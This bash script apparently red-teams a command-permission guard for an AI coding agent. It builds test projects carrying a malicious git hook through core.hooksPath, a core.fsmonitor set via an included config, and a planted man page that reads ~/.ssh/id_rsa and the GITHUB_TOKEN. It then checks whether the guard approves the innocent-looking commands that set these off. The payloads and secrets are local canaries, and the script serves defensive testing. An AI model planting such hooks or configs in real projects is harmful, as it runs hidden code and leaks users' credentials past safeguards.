#!/bin/bash
# By-hand attacks of round 19 that the harness cannot run (go is not on its
# PATH; its PATH is fixed): go list/build running git's hooks or an
# included fsmonitor (A), man pages from a PATH-derived directory of the
# project (C). Each prints the guard's decision (hookc explain -real, the
# world as it is) and what running the line in bash did.
set -u
R=/work/rt/round19; G=/work/main/examples/guard; LOG=/tmp/rt19-pwn.log
world() { rm -rf $R/atk/$1; mkdir -p $R/atk; cp -a $R/tpl $R/atk/$1; cd $R/atk/$1/top/proj
  printf '#!/bin/sh\necho PWNED-by-$0 >> %s\n' $LOG > pwn; chmod +x pwn; H=$PWD/../../home; }
run() { # policy line [extra env]
  local d; d=$(env -i HOME=$H CLAUDE_PROJECT_DIR=$PWD PATH=${XPATH:-/usr/local/go/bin:/usr/bin:/bin} $R/hookc explain -real -c "$2" $1 | awk '/^decision/{print $2}')
  : > $LOG; touch README.md
  out=$(env -i HOME=$H PATH=${XPATH:-/usr/local/go/bin:/usr/bin:/bin} TERM=dumb LANG=C.UTF-8 GITHUB_TOKEN=CANARY_GH_19 bash -c "$2" 2>&1)
  echo "$(basename $1) | $2 | $d | pwn=$(wc -l < $LOG) canary=$(grep -c CANARY <<<"$out")"; rm -f /var/cache/man/cat1/*.gz; }
echo "== A1 core.hooksPath=.husky with .husky/post-index-change"
world a1; git config core.hooksPath .husky; mkdir .husky; cp pwn .husky/post-index-change
for l in 'git status' 'go list ./...' 'go list -json .' 'go list -f {{.Dir}} ./...'; do run $G "$l"; done
for p in $R/starter /work/main/examples/tool-permissions; do for l in 'git status' 'go build ./...'; do run $p "$l"; done; done
echo "== A2 include.path=../.gitconfig.shared setting core.fsmonitor=./pwn"
world a2; printf '[core]\n\tfsmonitor = ./pwn\n' > .gitconfig.shared; git config include.path ../.gitconfig.shared
for l in 'git status' 'go list ./...' 'go list -json .' 'go list -m'; do run $G "$l"; done
for p in $R/starter /work/main/examples/tool-permissions; do for l in 'git status' 'go build ./...'; do run $p "$l"; done; done
echo "== C man page in a PATH-derived directory of the project"
world c; mkdir -p $H/.ssh .venv/bin .venv/share/man/man1 bin man/man1; echo CANARY_IDRSA_19 > $H/.ssh/id_rsa
printf '.TH LS 1\n.SH NAME\nls \\- list\n.so %s/.ssh/id_rsa\nTOKEN \\V[GITHUB_TOKEN]\n' "$H" > .venv/share/man/man1/ls.1
cp .venv/share/man/man1/ls.1 man/man1/ls.1
XPATH=$PWD/.venv/bin:/usr/bin:/bin run $G 'man ls'
XPATH=$PWD/bin:/usr/bin:/bin run $G 'man ls'
XPATH=/usr/bin:/bin run $G 'man ls'
